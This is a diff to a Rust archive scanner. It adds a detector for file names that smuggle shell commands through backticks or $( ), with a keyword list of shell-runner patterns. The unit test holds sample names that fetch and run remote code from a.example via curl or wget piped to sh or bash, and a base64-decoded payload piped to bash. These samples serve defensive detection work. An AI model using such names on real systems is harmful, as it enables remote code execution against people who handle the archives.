@@ -20,11 +20,13 @@ const REVERSED: FindingKind = FindingKind::new("name.reversed", Level::Hold, Som
 const PADDED: FindingKind = FindingKind::new("name.padded", Level::Hold, Some("F1"));
 const INVISIBLE: FindingKind = FindingKind::new("name.invisible", Level::Hold, Some("F1"));
 const MISMATCH: FindingKind = FindingKind::new("name.extension-mismatch", Level::Hold, Some("F2"));
+/// A name that a shell of Linux would run where somebody lists the archive with careless commands.
+const SHELL: FindingKind = FindingKind::new("name.shell-command", Level::Stop, Some("F1"));
 /// A locked archive shows the names of what it hides; one that runs is reason enough not to unlock it.
 const RISKY_LOCKED: FindingKind = FindingKind::new("archive.risky-locked", Level::Stop, Some("E3"));
 
 pub(super) const DETECTION: Detection = Detection {
-    kinds: &[&DISGUISED, &DOUBLE, &REVERSED, &PADDED, &INVISIBLE, &MISMATCH, &RISKY_LOCKED],
+    kinds: &[&DISGUISED, &DOUBLE, &REVERSED, &PADDED, &INVISIBLE, &MISMATCH, &SHELL, &RISKY_LOCKED],
     reads: Reads::Named,
     find,
 };
@@ -43,6 +45,9 @@ fn find(view: &View<'_>, found: &mut Vec<Observation>) {
     if let Some(claimed) = named.claimed.filter(|claimed| named.locked && claimed.acts()) {
         let risky = observe(&RISKY_LOCKED).with("names", named.name).with("risky", name.file).with("type", claimed.id);
         found.push(risky);
+    }
+    if named.offered && is_shell_command(named.name) {
+        found.push(observe(&SHELL));
     }
     let pretends = named.claimed.is_some_and(|claimed| !claimed.acts()) && !name.is_apple_double();
     if let Some(format) = acting.filter(|_| pretends || (named.offered && name.is_deceptive())) {
@@ -65,6 +70,19 @@ fn find(view: &View<'_>, found: &mut Vec<Observation>) {
             Observation::new(&MISMATCH, Evidence::quote(named.name)).with("ext", extension).with("type", format.id),
         );
     }
+}
+
+/// Whether a name holds what a shell expands (`` ` `` or `$(`, [POSIX] XCU 2.6.3) around something that runs.
+fn is_shell_command(name: &str) -> bool {
+    let name = name.to_lowercase();
+    let inside = name.split_once('`').or_else(|| name.split_once("$(")).map(|(_, inside)| inside);
+    let runs = |text: &str| {
+        let bare: String = text.chars().filter(|c| !matches!(c, ' ' | '\t' | '{' | '}')).collect();
+        ["|bash", "|sh", "|base64", "|python", "|perl", "bash-c", "sh-c", "curl,", "wget,", "echo,"]
+            .iter()
+            .any(|word| bare.contains(word))
+    };
+    inside.is_some_and(runs) || name.contains("{echo,") && name.contains("|{")
 }
 
 /// The kind that acts, if this is one: by its content, or, where the content tells nothing or something harmless, by
@@ -345,6 +363,21 @@ mod tests {
 
     fn of(name: &str, format: &str) -> Vec<&'static str> {
         found(name, Some(format), false, true)
+    }
+
+    #[test]
+    fn names_that_a_shell_would_run() {
+        for name in [
+            "ziliao2.pdf`{echo,KGN1cmw=}|{base64,-d}|bash`",
+            "a$(curl http://a.example|sh).txt",
+            "b`wget,-qO-,http://a.example|bash`.pdf",
+            "{echo,eA==}|{base64,-d}|bash",
+        ] {
+            assert!(is_shell_command(name), "{name}");
+        }
+        for name in ["`README`.md", "price $(2024).xlsx", "it`s echo.txt", "$(document).ready.js", "{a}|{b}.txt"] {
+            assert!(!is_shell_command(name), "{name}");
+        }
     }
 
     #[test]
